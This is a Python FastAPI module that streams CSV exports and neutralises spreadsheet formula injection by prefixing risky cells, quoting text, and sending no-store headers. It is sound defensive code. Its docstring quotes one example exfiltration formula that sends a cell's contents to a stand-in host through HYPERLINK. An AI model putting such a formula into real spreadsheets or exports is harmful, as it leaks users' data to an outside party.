"""CSV exports that a spreadsheet opens safely, streamed row by row.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
a formula to Excel, LibreOffice and Google Sheets: a campaign named
``=HYPERLINK("http://evil.example?"&A1, "open")`` would run when a marketer opens the
export. As OWASP recommends (CSV Injection), such a text cell gets a leading ``'``,
which the spreadsheet shows as text and does not evaluate, and every text cell is
quoted (embedded quotes doubled). Numbers stay numbers: a negative amount is a value,
not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterable, AsyncIterator, Iterable, Sequence
from datetime import date, datetime
from urllib.parse import quote

from fastapi.responses import StreamingResponse

Cell = str | int | float | bool | date | datetime | None

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_MEDIA_TYPE = "text/csv; charset=utf-8"


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it and never evaluates it."""
    return f"'{text}" if text.startswith(_FORMULA_STARTS) else text


def _cell(value: Cell) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    if isinstance(value, datetime):
        return value.isoformat().replace("+00:00", "Z")
    if isinstance(value, date):
        return value.isoformat()
    return safe_text(value)


def csv_line(cells: Sequence[Cell]) -> bytes:
    """One CSV record (CRLF-terminated, RFC 4180), every text cell quoted and safe."""
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n").writerow(
        [_cell(cell) for cell in cells]
    )
    return buffer.getvalue().encode("utf-8")


async def csv_stream(
    header: Sequence[str], rows: AsyncIterable[Sequence[Cell]] | Iterable[Sequence[Cell]]
) -> AsyncIterator[bytes]:
    """The header, then each row as it comes: nothing waits for the whole export."""
    yield csv_line(header)
    if isinstance(rows, AsyncIterable):
        async for row in rows:
            yield csv_line(row)
    else:
        for row in rows:
            yield csv_line(row)


def csv_response(filename: str, lines: AsyncIterator[bytes]) -> StreamingResponse:
    """A streamed download named ``filename``; never cached (it may hold personal data)."""
    return StreamingResponse(
        lines,
        media_type=_MEDIA_TYPE,
        headers={
            "Content-Disposition": f"attachment; filename*=UTF-8''{quote(filename)}",
            "Cache-Control": "no-store",
            "X-Content-Type-Options": "nosniff",
        },
    )
